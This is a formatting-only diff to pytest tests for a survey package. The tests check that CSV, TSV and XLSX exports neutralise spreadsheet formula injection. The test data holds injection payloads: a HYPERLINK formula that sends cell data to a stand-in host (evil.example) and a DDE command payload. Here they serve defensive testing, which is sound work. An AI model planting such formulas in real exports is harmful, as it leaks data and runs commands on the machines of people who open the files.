@@ -16,8 +16,7 @@ import pytest
 
 from quietpoll.safe_output import neutralize_formulas
 
-LIVE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-        "\t=1+1", "\r=1+1"]
+LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 SAFE = ["-9", "+3.5", "-1e3", "plain", "a=b"]
 
 
@@ -30,11 +29,11 @@ def _assert_inert_cells(cells: list[str]) -> None:
     """No cell a spreadsheet would run: any cell starting with a formula character is a plain number."""
     for cell in cells:
         if cell and cell[0] in "=+-@\t\r":
-            float(cell)   # -9, +3.5: numbers, not formulas
+            float(cell)  # -9, +3.5: numbers, not formulas
 
 
 def _xlsx_cells(path: Path) -> list[object]:
-    wb = openpyxl.load_workbook(path)   # formulas are kept as formulas (data_type "f") when not data_only
+    wb = openpyxl.load_workbook(path)  # formulas are kept as formulas (data_type "f") when not data_only
     values = []
     for ws in wb.worksheets:
         for row in ws.iter_rows():
@@ -42,7 +41,7 @@ def _xlsx_cells(path: Path) -> list[object]:
                 assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                 values.append(cell.value)
     for name in fastexcel.read_excel(path).sheet_names:
-        fastexcel.read_excel(path).load_sheet_by_name(name).to_polars()   # readable, no error cells
+        fastexcel.read_excel(path).load_sheet_by_name(name).to_polars()  # readable, no error cells
     return values
 
 
@@ -51,8 +50,14 @@ def _private(path: Path) -> None:
 
 
 def test_neutralize_is_vectorized_and_keeps_numbers():
-    frame = pl.DataFrame({"text": LIVE + SAFE + [None], "n": list(range(-5, len(LIVE) + len(SAFE) - 4)),
-                          "cat": pl.Series(["=x"] * 6 + ["ok"] * 6, dtype=pl.Categorical), "=name": [1.5] * 12})
+    frame = pl.DataFrame(
+        {
+            "text": LIVE + SAFE + [None],
+            "n": list(range(-5, len(LIVE) + len(SAFE) - 4)),
+            "cat": pl.Series(["=x"] * 6 + ["ok"] * 6, dtype=pl.Categorical),
+            "=name": [1.5] * 12,
+        }
+    )
     out = neutralize_formulas(frame)
     assert out["text"].to_list() == ["'" + v for v in LIVE] + SAFE + [None]
     assert out["n"].dtype == pl.Int64 and out["n"].to_list() == frame["n"].to_list()
@@ -73,11 +78,11 @@ def test_write_data_is_inert_and_private(tmp_path, ext):
         write_data(frame, out)
     finally:
         os.umask(old)
-    _private(out)   # a new file replaced the old one: created 0600, not chmod-ed
+    _private(out)  # a new file replaced the old one: created 0600, not chmod-ed
     if ext == "xlsx":
         cells = _xlsx_cells(out)
         quoted = [c.replace("_x000D_", "\r") for c in cells if isinstance(c, str) and c.startswith("'")]
-        assert quoted == ["'" + v for v in LIVE]   # (openpyxl leaves xlsxwriter's escape of CR as _x000D_)
+        assert quoted == ["'" + v for v in LIVE]  # (openpyxl leaves xlsxwriter's escape of CR as _x000D_)
         back = pl.read_excel(out)
         assert back["age"].dtype.is_integer()
         assert back["answer"].to_list() == ["'" + v for v in LIVE] + SAFE
@@ -85,7 +90,7 @@ def test_write_data_is_inert_and_private(tmp_path, ext):
         rows = _csv_cells(out, "\t" if ext == "tsv" else ",")
         _assert_inert_cells([c for row in rows for c in row])
         assert [r[0] for r in rows[1:]] == ["'" + v for v in LIVE] + SAFE
-    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]   # no temporary file left
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left
 
 
 @pytest.fixture(scope="module")
@@ -145,7 +150,7 @@ def poisoned_study(tmp_path_factory):
     study = make_study(tmp_path_factory.mktemp("inj") / "study")
     frame = pl.read_csv(study / "responses.csv", infer_schema_length=None)
     poisoned = frame.with_columns(pl.Series("intermediary", [LIVE[i % len(LIVE)] for i in range(frame.height)]))
-    poisoned.write_csv(study / "responses.csv")   # written raw on purpose: the export must neutralize it
+    poisoned.write_csv(study / "responses.csv")  # written raw on purpose: the export must neutralize it
     return study
 
 
@@ -182,8 +187,14 @@ def test_release_is_inert(tmp_path, ext):
     from quietpoll.disclosure.release import publish, release
 
     n = 60
-    frame = pl.DataFrame({"sex": ["f", "m"] * (n // 2), "region": ["north", "south", "east"] * (n // 3),
-                          "opinion": [LIVE[i % len(LIVE)] for i in range(n)], "score": list(range(n))})
+    frame = pl.DataFrame(
+        {
+            "sex": ["f", "m"] * (n // 2),
+            "region": ["north", "south", "east"] * (n // 3),
+            "opinion": [LIVE[i % len(LIVE)] for i in range(n)],
+            "score": list(range(n)),
+        }
+    )
     rel = release(frame, qi=["sex", "region"], k=3, free_text=())
     out = tmp_path / f"public.{ext}"
     publish(rel, out)
